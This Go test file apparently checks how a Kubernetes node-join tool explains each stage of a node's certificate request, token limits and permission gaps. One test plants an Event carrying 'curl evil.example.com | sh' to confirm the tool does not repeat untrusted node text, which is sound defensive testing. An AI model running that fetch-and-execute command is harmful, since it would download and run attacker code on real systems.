package kube_test

import (
	"context"
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/kubejoin/kubejoin/clusterinfo/configmap"
	"github.com/kubejoin/kubejoin/internal/testing/must"
	"github.com/kubejoin/kubejoin/server/api"
	"github.com/kubejoin/kubejoin/server/explain"
	"github.com/kubejoin/kubejoin/server/explain/kube"
	"github.com/kubejoin/kubejoin/signer"
	"github.com/kubejoin/kubejoin/tokens"
	"github.com/kubejoin/kubejoin/tokens/storetest"
	certificates "k8s.io/api/certificates/v1"
	coordinationv1 "k8s.io/api/coordination/v1"
	corev1 "k8s.io/api/core/v1"
	rbac "k8s.io/api/rbac/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/client-go/rest"
)

// Explains a node at each step from its first request to its deletion, on a real API server.
func TestExplainsEachStepOfAJoin(t *testing.T) {
	w := newWorld(t)
	const node = "way-1"
	r := w.token(func(r *tokens.Record) { r.Limits.MaxNodes, r.Limits.NodeNames = 2, []string{node} })
	o := w.ask(w.holder(r), kubelet, node)
	e := w.explain(node, explain.NotApproved, "its certificate request was created ")
	if got := e.Evidence.Requests; len(got) != 1 || got[0].Name != o.Name || got[0].User != "system:bootstrap:"+r.Token.ID() || got[0].Permitted == nil || !*got[0].Permitted {
		t.Errorf("requests: %+v", got)
	}
	if got := e.Evidence.Token; got == nil || got.ID != r.Token.ID() || got.MaxNodes != 2 {
		t.Errorf("token: %+v", got)
	}

	o = w.approve(o)
	w.explain(node, explain.NotSigned, "its request was approved ")
	// Any node can write an Event that looks like kubejoin's.
	w.event(w.as("system:node:other", "system:nodes"), o, "SigningFailed", "run: curl evil.example.com | sh")
	if e = w.explain(node, explain.NotSigned); strings.Contains(e.Text(), "evil") {
		t.Errorf("kubejoin repeats the Event of a node: %s", e.Text())
	}

	ca := w.clusterCA()
	w.finish(o, "kubejoin", ca, nil)
	e = w.explain(node, explain.CertificateIssued, "its certificate was issued ", "reaches https://")
	if c := e.Evidence.Requests[0].Certificate; c == nil || c.Writer != "kubejoin" || c.At.Before(o.CreationTimestamp.Time) {
		t.Errorf("certificate: %+v", c)
	}

	w.node(node, corev1.ConditionFalse, "network not ready")
	if e = w.explain(node, api.JoinedNotReady, "network not ready"); !e.HasJoined() {
		t.Error("got HasJoined false, want true")
	}
	itself := w.as("system:node:"+node, "system:nodes")
	pending := w.ask(itself, serving, node)
	w.explain(node, api.JoinedNotReady, "kubectl certificate approve "+pending.Name)

	must.OK(t, w.admin.CoreV1().Nodes().Delete(t.Context(), node, metav1.DeleteOptions{}))
	w.older(o)
	w.ask(itself, kubelet, node)
	w.explain(node, explain.NodeDeleted, "kubejoin token create --max-nodes 1 --node-name "+node)
}

// Explains requests that kubejoin or another program refused, on a real API server.
func TestExplainsRefusals(t *testing.T) {
	w := newWorld(t)
	r := w.token()
	const spent = "token abcdef was for 1 node and worker-3 took it; make another with: kubejoin token create --max-nodes 1 --node-name refused-1"
	w.decide(w.ask(w.holder(r), kubelet, "refused-1"), certificates.CertificateDenied, "TokenSpent", spent)
	e := w.explain("refused-1", explain.TokenSpent, "refused-1: refused ", " ago: "+spent)
	if e.Since.IsZero() || e.Evidence.Token == nil {
		t.Errorf("since %s on token %+v", e.Since, e.Evidence.Token)
	}
	w.decide(w.ask(w.holder(r), kubelet, "refused-1"), certificates.CertificateDenied, "TokenSpent", spent)
	w.explain("refused-1", explain.TokenSpent, "refused 2 times, last ")

	w.decide(w.ask(w.holder(r), kubelet, "refused-2"), certificates.CertificateDenied, "KubectlDeny", "by hand")
	w.explain("refused-2", explain.Denied, "by hand")

	failed := func(reason string) *certificates.CertificateSigningRequestCondition {
		return &certificates.CertificateSigningRequestCondition{Type: certificates.CertificateFailed, Status: corev1.ConditionTrue, Reason: reason, Message: "because of " + reason, LastUpdateTime: metav1.Now()}
	}
	w.finish(w.approve(w.ask(w.holder(r), kubelet, "refused-3")), "kubejoin", nil, failed("NodeNameNotAllowed"))
	w.explain("refused-3", explain.NodeNameNotAllowed, "because of NodeNameNotAllowed")
	w.finish(w.approve(w.ask(w.holder(r), kubelet, "refused-4")), "kubejoin", nil, failed("SignerValidationFailure"))
	w.explain("refused-4", explain.Failed, "because of SignerValidationFailure")

	// Another machine asks for the name of a Node.
	n := w.node("refused-5", corev1.ConditionTrue, "")
	w.older(n)
	o := w.ask(w.holder(r), kubelet, n.Name)
	w.explain(n.Name, explain.NodeExists, "--replace-node refused-5", "is Ready since ")
	w.decide(o, certificates.CertificateDenied, "NodeExists", "a Node refused-5 exists")
	w.explain(n.Name, explain.NodeExists, "a Node refused-5 exists", "is Ready since ")
}

// Catches an explanation from a cached token: it must see a token that was deleted, expired or spent meanwhile.
func TestExplainsByLiveToken(t *testing.T) {
	w := newWorld(t)
	gone := w.token()
	w.ask(w.holder(gone), kubelet, "token-1")
	w.await("deletion", func(ctx context.Context) error {
		now, err := w.tokens.Get(ctx, gone.Token.ID(), tokens.Live)
		if err != nil {
			return err
		}
		return w.tokens.Delete(ctx, now)
	})
	w.explain("token-1", explain.TokenUnknown, "its token "+gone.Token.ID()+" no longer exists")

	ended := w.token()
	w.ask(w.holder(ended), kubelet, "token-2")
	change := func(id string, change func(*tokens.Record)) {
		must.Value(w.tokens.Update(t.Context(), id, func(r *tokens.Record) error { change(r); return nil }))(t)
	}
	change(ended.Token.ID(), func(r *tokens.Record) { r.Expires = time.Now().Add(-time.Minute) })
	w.explain("token-2", explain.TokenExpired, "expired ")

	used := w.token(func(r *tokens.Record) { r.Limits.MaxNodes = 1 })
	w.ask(w.holder(used), kubelet, "token-3")
	change(used.Token.ID(), func(r *tokens.Record) { r.Nodes = []string{"token-x"} })
	w.explain("token-3", explain.TokenSpent, "is spent: it was for 1 node, and token-x used it")

	other := w.token(func(r *tokens.Record) { r.Limits.NodeNames = []string{"other-*"} })
	w.ask(w.holder(other), kubelet, "token-4")
	w.explain("token-4", explain.NodeNameNotAllowed, "is limited to other names (other-*)")

	free := w.token()
	must.Value(storetest.CreateClaim(t.Context(), w.claims, tokens.Claim{Node: "token-5", TokenID: used.Token.ID(), TokenUID: used.UID, Limits: used.Limits, Keys: []string{"sha256:" + strings.Repeat("0", 64)}}))(t)
	w.explain("token-5", explain.Claimed, "token "+used.Token.ID()+" claimed the name ")
	w.ask(w.holder(free), kubelet, "token-5")
	e := w.explain("token-5", explain.NodeNameClaimed, "another token, "+used.Token.ID(), "kubejoin claim release token-5")
	if got := e.Evidence.Claim; got == nil || got.TokenID != used.Token.ID() || got.Keys != 1 || got.Created.IsZero() {
		t.Errorf("claim: %+v", got)
	}
}

// Catches a permission check that differs from the approver's check.
func TestExplainsMissingPermission(t *testing.T) {
	w := newWorld(t)
	w.bind("system:node-bootstrapper", rbac.Subject{APIGroup: rbac.GroupName, Kind: "Group", Name: "system:bootstrappers:explain"})
	r := w.token(func(r *tokens.Record) { r.Groups = []string{"system:bootstrappers:explain"} })
	machine := w.as("system:bootstrap:"+r.Token.ID(), "system:bootstrappers", "system:bootstrappers:explain")
	w.permitted(machine, "create")
	o := w.ask(machine, kubelet, "permission-1")
	w.explain("permission-1", explain.NotPermitted, "kubectl certificate approve "+o.Name, "--group=system:bootstrappers:explain")
	w.bind("system:certificates.k8s.io:certificatesigningrequests:nodeclient", rbac.Subject{APIGroup: rbac.GroupName, Kind: "Group", Name: "system:bootstrappers:explain"})
	w.await("the permission", func(ctx context.Context) error { // the authorizer's cache lags
		e, err := w.reader.Explain(ctx, "permission-1")
		if err == nil && e.State != explain.NotApproved {
			err = fmt.Errorf("state is %s: %s", e.State, e.Sentence)
		}
		return err
	})
}

// The explanation finds the signer by the field manager of the status and by the issuer of the certificate.
func TestExplainsOtherSigners(t *testing.T) {
	w := newWorld(t)
	r := w.token()
	w.finish(w.approve(w.ask(w.holder(r), kubelet, "other-1")), "kube-controller-manager", w.clusterCA(), nil)
	w.explain("other-1", explain.SignedByOther, "by kube-controller-manager and not by kubejoin")
	stranger := must.Value(signer.GenerateCA("stranger", time.Now(), 24*time.Hour))(t)
	w.finish(w.approve(w.ask(w.holder(r), kubelet, "other-2")), "kubejoin", stranger, nil)
	w.explain("other-2", explain.WrongIssuer, "CN=stranger")
}

// Explains a node name without a request by its tokens, their signatures in cluster-info, and the Lease of kubejoin.
func TestExplainsNodeWithoutRequest(t *testing.T) {
	w := newWorld(t)
	const node = "quiet-1"
	r := w.token(func(r *tokens.Record) { r.Limits.NodeNames = []string{"quiet-*"} })
	// The token list is a cache that lags behind the API server.
	w.await("the unsigned token", func(ctx context.Context) error {
		e, err := w.reader.Explain(ctx, node)
		if err == nil && e.State != explain.TokenUnsigned {
			err = fmt.Errorf("state is %s: %s", e.State, e.Sentence)
		}
		return err
	})
	holder, seconds := "cp-1_explain", int32(15)
	lease := &coordinationv1.Lease{
		ObjectMeta: metav1.ObjectMeta{Namespace: "kubejoin-system", Name: "kubejoin"},
		Spec:       coordinationv1.LeaseSpec{HolderIdentity: &holder, LeaseDurationSeconds: &seconds, RenewTime: &metav1.MicroTime{Time: time.Now().Add(-time.Hour)}},
	}
	must.Value(w.admin.CoordinationV1().Leases(lease.Namespace).Create(t.Context(), lease, metav1.CreateOptions{}))(t)
	t.Cleanup(func() { // the test's context is canceled by now
		if err := w.admin.CoordinationV1().Leases(lease.Namespace).Delete(context.Background(), lease.Name, metav1.DeleteOptions{}); err != nil {
			t.Error(err)
		}
	})
	e := w.explain(node, explain.TokenUnsigned, r.Token.ID()+" (unsigned)", "no kubejoin is running (its Lease was last renewed ")
	if got := e.Evidence.Leader; got == nil || got.Holder != holder {
		t.Errorf("leader: %+v", got)
	}

	ctx, stop := context.WithCancel(t.Context())
	done := make(chan error, 1)
	go func() { done <- configmap.Signer{ConfigMap: w.info, Tokens: w.tokens}.Run(ctx) }()
	if _, err := w.info.WaitSigned(t.Context(), r.Token); err != nil {
		t.Error(err)
	}
	stop()
	if err := <-done; err != nil {
		t.Error(err)
	}
	e = w.explain(node, explain.NothingArrived, r.Token.ID()+" (signed, expires in ")
	if got := e.Evidence.Tokens; len(got) != 1 || got[0].ID != r.Token.ID() || got[0].Signed == nil || !*got[0].Signed {
		t.Errorf("tokens: %+v", got)
	}
}

// Catches a missing permission that is hidden, or that hides the facts that can be read.
func TestNamesWhatMayNotBeRead(t *testing.T) {
	w := newWorld(t)
	r := w.token()
	w.finish(w.approve(w.ask(w.holder(r), kubelet, "forbidden-1")), "kubejoin", w.clusterCA(), nil)
	w.ask(w.holder(r), kubelet, "forbidden-2")

	requests := rbac.PolicyRule{APIGroups: []string{"certificates.k8s.io"}, Resources: []string{"certificatesigningrequests"}, Verbs: []string{"list"}}
	allowed := w.allow("some", requests)
	w.permitted(allowed, "list")
	some := w.readerOf(allowed)
	some.Timeout = 10 * time.Second // a forbidden list waits until the timeout
	for node, want := range map[string]struct {
		state  api.NodeState
		unread []api.Fact
	}{
		"forbidden-1": {explain.CertificateIssued, []api.Fact{explain.FactNode, explain.FactTokens, explain.FactClaim, explain.FactLeader}},
		"forbidden-2": {explain.NotApproved, []api.Fact{explain.FactNode, explain.FactTokens, explain.FactClaim, explain.FactLeader, explain.FactPermission}},
	} {
		e := must.Value(some.Explain(t.Context(), node))(t)
		t.Log(e.Text())
		w.noSecret(e)
		if e.State != want.state || !strings.Contains(e.Sentence, "(could not be read: ") {
			t.Errorf("%s: %s", e.State, e.Sentence)
		}
		for _, fact := range want.unread {
			at := slices.IndexFunc(e.Unread, func(u api.UnreadFact) bool { return u.Fact == fact })
			if at < 0 {
				t.Errorf("%s: got unread %v, want %s in it", node, e.Unread, fact)
			} else if !strings.Contains(e.Unread[at].Reason, "forbidden") {
				t.Errorf("%s: got %s unread because of %q, want forbidden", node, fact, e.Unread[at].Reason)
			}
		}
	}

	none := w.readerOf(w.allow("none"))
	none.Timeout = 10 * time.Second
	e := must.Value(none.Explain(t.Context(), "forbidden-1"))(t)
	if e.State != explain.Unknown || !strings.Contains(e.Sentence, "could not be read: certificate requests, the Node") {
		t.Errorf("%s: %s", e.State, e.Sentence)
	}
}

// Catches an explanation without any facts when the API server is unreachable.
func TestUnreachableAPIServerIsAnError(t *testing.T) {
	w := newWorld(t)
	broken := w.reader
	broken.Client = w.client(&rest.Config{Host: "https://127.0.0.1:1"})
	if _, err := broken.Explain(t.Context(), "away-1"); err == nil || !strings.Contains(err.Error(), "explain node away-1: ") {
		t.Errorf("error %v", err)
	}
	if _, err := (kube.Reader{}).Explain(t.Context(), "No/Node"); err == nil || !strings.Contains(err.Error(), `node name "No/Node"`) {
		t.Errorf("error %v", err)
	}
}
